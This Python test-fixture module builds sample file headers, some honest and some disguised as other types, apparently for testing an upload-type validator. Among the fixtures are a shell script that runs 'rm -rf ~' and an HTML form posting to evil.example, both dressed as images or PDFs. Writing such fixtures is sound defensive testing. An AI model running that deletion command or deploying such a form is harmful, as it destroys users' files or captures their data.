"""First bytes of files of many kinds, all built here: honest ones, and ones that lie."""

import bz2
import gzip
import io
import lzma
import random
import sqlite3
import struct
import tarfile
import wave
import zipfile
from typing import Any

from PIL import Image

from tests.builders import picture_bytes

OPEN_XML = "application/vnd.openxmlformats-officedocument"
Sample = tuple[str, str, bytes]  # declared type, name, first bytes


def zipped(*names: str, mimetype: str = "") -> bytes:
    """Return a ZIP archive with these files; ``mimetype`` stands first in it, as in an EPUB."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        if mimetype:
            archive.writestr("mimetype", mimetype)
        for name in names:
            archive.writestr(name, "content of " + name)
    return stream.getvalue()


def tarred() -> bytes:
    """Return a TAR archive."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("MZ-first.txt"), io.BytesIO())
    return stream.getvalue()


def saved(kind: str, **options: Any) -> bytes:
    """Return a picture in one of Pillow's formats."""
    stream = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(stream, kind, **options)
    return stream.getvalue()


def waved() -> bytes:
    """Return a second of silence."""
    stream = io.BytesIO()
    with wave.open(stream, "wb") as sound:
        sound.setparams((1, 2, 8000, 8000, "NONE", "none"))
        sound.writeframes(bytes(16000))
    return stream.getvalue()


def database() -> bytes:
    """Return an SQLite database."""
    with sqlite3.connect(":memory:") as connection:
        connection.execute("create table t (x)")
        body = connection.serialize()
    connection.close()
    return body


def boxed(brand: bytes, *others: bytes) -> bytes:
    """Return the start of a film, or picture, in ISO's container (ISO 14496-12)."""
    kinds = brand + bytes(4) + b"".join(others)
    return struct.pack(">I", 8 + len(kinds)) + b"ftyp" + kinds + struct.pack(">I", 8) + b"free"


def compound(class_id: bytes = bytes(16)) -> bytes:
    """Return an empty compound file (MS-CFB): the container of DOC, XLS, MSI."""
    none, chain_end = 0xFFFFFFFF, 0xFFFFFFFE
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6xIIII", 62, 3, 0xFFFE, 9, 6, 0, 1, 1, 0)
    header += struct.pack("<IIIII", 4096, chain_end, 0, chain_end, 0)
    header += struct.pack("<109I", 0, *[none] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, chain_end, *[none] * 126)
    name = "Root Entry\0".encode("utf-16-le")
    entry = name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), 5, 1, none, none, none)
    entry += class_id + bytes(20) + struct.pack("<IQ", chain_end, 0)
    return header + table + entry.ljust(512, b"\0")


def windows_program(stub: int = 128) -> bytes:
    """Return the headers of a program of Windows, after a stub of DOS of this size."""
    head = b"MZ" + bytes(58) + struct.pack("<I", stub)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return head.ljust(stub, b"\0") + b"PE\0\0" + coff + b"\x0b\2" + bytes(300)


def unix_program(kind: int) -> bytes:
    """Return the header of an ELF file: 1 is an object, 2 a program, 3 a library."""
    fields = (kind, 62, 1, 0x400000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", *fields) + bytes(200)


MAC_PROGRAM = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 10, 500, 0, 0) + bytes(200)
UNIVERSAL = struct.pack(">7I", 0xCAFEBABE, 1, 0x01000007, 3, 16384, 100, 14) + bytes(200)
SHORTCUT = struct.pack("<I", 76) + b"\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60)
HELP = b"ITSF\3\0\0\0" + bytes(100)
INSTALLER = compound(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46")
DEBIAN = b"!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n"
RPM = b"\xed\xab\xee\xdb\3\0\0\0\0\1bash-5" + bytes(200)
CLASS = struct.pack(">IHH", 0xCAFEBABE, 0, 61) + bytes(100)
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
PAGE = b"<!DOCTYPE html>\n<html><body><form action=//evil.example>"
XHTML = b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\n"
RANDOM = random.Random(7).randbytes(70_000)
TIFF = b"MM\0*\0\0\0\x08\0\0"
MARKDOWN = b"# Title\n\nText with <html> in it, and\n\n<p align=center><img src=x></p>\n"
TYPESCRIPT = b"export function f(a: number): number {\n  return a;\n}\n"
MP3 = b"ID3\4\0\0\0\0\0\x0a" + bytes(20) + b"\xff\xfb\x90\x64" + bytes(400)
TABLE_PAGE = b"<html><table><tr><td>1</td></tr></table></html>"

# The declared types are those that browsers send, on the system that sends the oddest.
HONEST: list[Sample] = [
    # Text and source code.
    ("text/plain", "notes.txt", b"Hello\n"),
    ("text/plain", "empty.txt", b""),
    ("text/plain", "latin.txt", "Grüße aus Köln\n".encode("latin-1") * 9),
    ("text/plain", "wide.txt", "\ufeffHello\n".encode("utf-16-le")),
    ("text/plain", "japanese.txt", "日本語のテキスト\n".encode("shift_jis") * 9),
    ("text/plain", "about.txt", b"MZ is how programs of Windows begin.\n" * 9),
    ("text/plain", "tags.txt", b"ID3 tags, BM, GIF8, OggS, fLaC and FWS are signatures.\n"),
    ("text/plain", "install.txt", b"#!/bin/sh\necho an example\n"),
    ("", "README", b"Read me\n"),
    ("", "LICENSE", b"Permission is hereby granted, free of charge, to any person\n"),
    ("text/csv", "table.csv", b"a,b\n1,2\n3,4\n"),
    ("application/vnd.ms-excel", "table.csv", b"a;b\n1;2\n3;4\n"),
    ("", "page.md", MARKDOWN),
    ("text/markdown", "page.md", MARKDOWN),
    ("application/json", "data.json", b'{"a": [1, 2]}'),
    ("", "notebook.ipynb", b'{"cells": [{"cell_type": "code"}]}'),
    ("text/xml", "feed.xml", b'<?xml version="1.0"?><rss/>'),
    ("application/gpx+xml", "track.gpx", b'<?xml version="1.0"?><gpx/>'),
    ("", "config.yaml", b"a: 1\nb:\n  - c\n"),
    ("text/x-python", "tool.py", b"#!/usr/bin/env python3\nimport os\n"),
    ("text/plain", "tool.py", b"#!/usr/bin/env python3\nimport os\n"),
    ("application/x-shellscript", "build.sh", b"#!/bin/sh\nset -e\n"),
    ("", "hook", b"#!/usr/bin/env node\nrun()\n"),
    ("text/x-csrc", "main.c", b"#include <stdio.h>\nint main(void) { return 0; }\n"),
    ("video/mp2t", "code.ts", TYPESCRIPT),
    ("video/mp2t", "german.ts", b'<?xml version="1.0"?><!DOCTYPE TS><TS version="2.1"/>'),
    ("", "App.vue", b"<template>\n<div/></template>\n<script>export default {}</script>\n"),
    ("", "App.jsx", b"export default () => <html><body/></html>;\n"),
    ("application/x-httpd-php", "index.php", b"<?php echo 1; ?>\n<html>"),
    ("text/css", "site.css", b"body { color: red }\n"),
    ("application/x-sql", "dump.sql", b"INSERT INTO t VALUES (1);\n"),
    ("text/x-patch", "fix.patch", b"diff --git a/x b/x\n--- a/x\n+++ b/x\n"),
    ("audio/x-mod", "go.mod", b"module example.org/x\n\ngo 1.22\n"),
    ("application/vnd.ms-publisher", "id_rsa.pub", b"ssh-rsa AAAAB3NzaC1yc2E user@host\n"),
    ("application/vnd.apple.keynote", "tls.key", b"-----BEGIN PRIVATE KEY-----\nMII\n"),
    ("application/vnd.ms-powerpoint", "site.pot", b'msgid ""\nmsgstr ""\n'),
    ("application/x-subrip", "film.srt", b"1\r\n00:00:01,000 --> 00:00:02,000\r\nHi\r\n"),
    ("text/vtt", "film.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\nHi\n"),
    ("audio/x-mpegurl", "list.m3u", b"#EXTM3U\n#EXTINF:1,x\nx.mp3\n"),
    ("message/rfc822", "mail.eml", b"From: a@b\nTo: c@d\nContent-Type: text/html\n\n<html>"),
    ("text/calendar", "date.ics", b"BEGIN:VCALENDAR\nVERSION:2.0\n"),
    # Documents.
    ("application/pdf", "paper.pdf", PDF),
    ("application/pdf", "scan.pdf", b"\n\n" + PDF),
    ("application/postscript", "logo.ai", PDF),
    (f"{OPEN_XML}.wordprocessingml.document", "a.docx", zipped("[Content_Types].xml", "word/x")),
    ("", "a.xlsx", zipped("xl/workbook.xml", "[Content_Types].xml")),
    (f"{OPEN_XML}.presentationml.presentation", "locked.pptx", compound()),
    ("application/vnd.oasis.opendocument.text", "a.odt",
     zipped("content.xml", mimetype="application/vnd.oasis.opendocument.text")),
    ("application/epub+zip", "book.epub", zipped("a.xml", mimetype="application/epub+zip")),
    ("application/vnd.apple.pages", "a.pages", zipped("Index/Document.iwa")),
    ("application/msword", "old.doc", compound()),
    ("application/msword", "letter.doc", b"{\\rtf1\\ansi Hello}"),
    ("application/vnd.ms-excel", "old.xls", compound()),
    ("application/vnd.ms-excel", "export.xls", TABLE_PAGE),
    ("application/vnd.ms-excel", "new.xls", zipped("[Content_Types].xml", "xl/workbook.xml")),
    # Archives and what is packed.
    ("application/x-zip-compressed", "a.zip", zipped("a.txt")),
    ("application/zip", "classes.zip", zipped("META-INF/MANIFEST.MF", "A.class")),
    ("", "tool.whl", zipped("tool/__init__.py", "tool-1.dist-info/METADATA")),
    ("application/vnd.comicbook+zip", "comic.cbz", zipped("1.jpg")),
    ("application/x-tar", "a.tar", tarred()),
    ("application/gzip", "a.tar.gz", gzip.compress(tarred())),
    ("application/gzip", "unpacked-on-the-way.tar.gz", tarred()),
    ("application/x-gzip", "unpacked-on-the-way.csv.gz", b"a,b\n1,2\n"),
    ("application/x-bzip2", "a.bz2", bz2.compress(b"x" * 99)),
    ("application/x-xz", "a.xz", lzma.compress(b"x" * 99)),
    ("", "a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(30)),
    ("application/vnd.rar", "a.rar", b"Rar!\x1a\7\1\0" + bytes(30)),
    ("application/x-iso9660-image", "a.iso", bytes(32769) + b"CD001\1" + bytes(2000)),
    # Pictures.
    *((f"image/{kind.lower()}", f"a.{kind.lower()}", picture_bytes(kind=kind))
      for kind in ("JPEG", "PNG", "WEBP", "AVIF", "GIF")),
    ("image/jpeg", "really-a-png.jpg", picture_bytes(kind="PNG")),
    ("image/jpeg", "damaged.jpg", bytes(5000)),
    ("image/bmp", "a.bmp", saved("BMP")),
    ("image/tiff", "a.tif", saved("TIFF")),
    ("image/x-icon", "a.ico", saved("ICO")),
    ("image/heic", "a.heic", boxed(b"heic", b"mif1", b"heic")),
    ("image/heic", "odd.heic", boxed(b"isom", b"heic")),
    ("image/vnd.adobe.photoshop", "a.psd", b"8BPS\0\1" + bytes(7) + b"\3" + bytes(40)),
    ("image/x-nikon-nef", "a.nef", TIFF + bytes(60)),
    ("image/x-canon-cr2", "a.cr2", b"II*\0\x10\0\0\0CR\2\0" + bytes(60)),
    ("", "a.cr3", boxed(b"crx ", b"isom")),
    ("", "a.arw", b"II*\0\x08\0\0\0" + bytes(60)),
    ("image/x-xpixmap", "a.xpm", b"/* XPM */\nstatic char *x[] = {"),
    ("image/vnd.dxf", "a.dxf", b"  0\nSECTION\n  2\nHEADER\n"),
    # Sound and film.
    ("audio/mpeg", "a.mp3", MP3),
    ("audio/mpeg", "bare.mp3", b"\xff\xfb\x90\x64" + bytes(400)),
    ("audio/wav", "a.wav", waved()),
    ("audio/x-m4a", "a.m4a", boxed(b"M4A ", b"isom")),
    ("audio/flac", "a.flac", b"fLaC\0\0\0\x22" + bytes(40)),
    ("audio/ogg", "a.ogg", b"OggS\0\2" + bytes(22) + b"\1\x1e\1vorbis" + bytes(30)),
    ("video/mp4", "a.mp4", boxed(b"isom", b"mp41")),
    ("video/quicktime", "old.mov", struct.pack(">I", 8) + b"wide" + bytes(60)),
    ("video/mp2t", "film.ts", (b"\x47\x40\0\x10" + bytes(184)) * 9),
    ("video/webm", "a.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + bytes(30)),
    # All the rest.
    ("", "data.bin", RANDOM),
    ("application/octet-stream", "image-of-a-disk", bytes(510) + b"\x55\xaa"),
    ("application/octet-stream", "jump.dat", b"\xe9\x12\x34" + RANDOM[:500]),
    ("", "MZ.dat", b"MZ" + RANDOM[:60] + b"\xff\xff\xff\xff" + RANDOM[:500]),
    ("", "app.db", database()),
    ("", "Main.class", CLASS),
    ("", "main.o", unix_program(1)),
    ("font/ttf", "a.ttf", b"\0\1\0\0\0\x0c\x80" + bytes(60)),
]  # fmt: skip

DISHONEST: list[Sample] = [
    # Programs that claim to be something else, or nothing.
    *((declared, name, windows_program())
      for declared, name in [
          ("image/png", "a.png"), ("image/x-unheard-of", "a.unheard"), ("video/mp4", "a.mp4"),
          ("audio/mpeg", "a.mp3"), ("application/pdf", "a.pdf"), ("application/zip", "a.zip"),
          (f"{OPEN_XML}.wordprocessingml.document", "a.docx"), ("application/msword", "a.doc"),
          ("text/plain", "a.txt"), ("application/octet-stream", "a"), ("", "a.dat"),
          ("application/gzip", "a.gz"), ("font/ttf", "a.ttf"),
      ]),
    ("image/jpeg", "large-stub.jpg", windows_program(stub=60_000)),
    ("image/jpeg", "larger-stub.jpg", windows_program(stub=1_000_000)[:65536]),
    ("image/gif", "a.gif", unix_program(2)),
    ("", "program", unix_program(2)),
    ("application/octet-stream", "library", unix_program(3)),
    ("application/octet-stream", "damaged", b"\x7fELF" + bytes(200)),
    ("image/png", "object.png", unix_program(1)),
    ("video/quicktime", "a.mov", MAC_PROGRAM),
    ("", "program", MAC_PROGRAM),
    ("text/plain", "universal.txt", UNIVERSAL),
    ("application/pdf", "invoice.pdf", SHORTCUT),
    ("", "shortcut", SHORTCUT),
    ("application/msword", "help.doc", HELP),
    ("application/msword", "setup.doc", INSTALLER),
    ("application/zip", "package.zip", DEBIAN),
    ("", "package", RPM),
    ("image/webp", "Main.webp", CLASS),
    # Scripts and pages.
    ("image/png", "script.png", SCRIPT),
    ("image/png", "odd-script.png", b"#! /opt/odd/interpreter\nx\n"),
    ("application/zip", "script.zip", SCRIPT + bytes(20)),
    ("application/pdf", "script.pdf", SCRIPT),
    ("image/jpeg", "page.jpg", PAGE),
    ("", "page.png", PAGE),
    ("image/png", "wide.png", PAGE.decode().encode("utf-16")),
    ("application/pdf", "page.pdf", PAGE),
    ("application/pdf", "page.pdf", XHTML),
    ("video/mp4", "page.mp4", PAGE),
    ("application/zip", "page.zip", PAGE),
    (f"{OPEN_XML}.wordprocessingml.document", "page.docx", PAGE),
    ("image/png", "drawing.png", SVG),
    ("application/pdf", "drawing.pdf", SVG),
    # Other kinds.
    ("image/png", "archive.png", zipped("a.exe")),
    ("image/jpeg", "archive.jpg", b"Rar!\x1a\7\1\0" + bytes(30)),
    ("image/gif", "paper.gif", PDF),
    ("image/png", "notes.png", b"just text\n"),
    ("text/plain", "archive.txt", zipped("a.exe")),
    ("text/csv", "picture.csv", picture_bytes(kind="PNG")),
    ("application/pdf", "archive.pdf", zipped("a.exe")),
    ("video/mp4", "archive.mp4", zipped("a.exe")),
    ("application/zip", "picture.zip", picture_bytes(kind="JPEG")),
    ("", "picture.docx", picture_bytes(kind="GIF")),
]  # fmt: skip
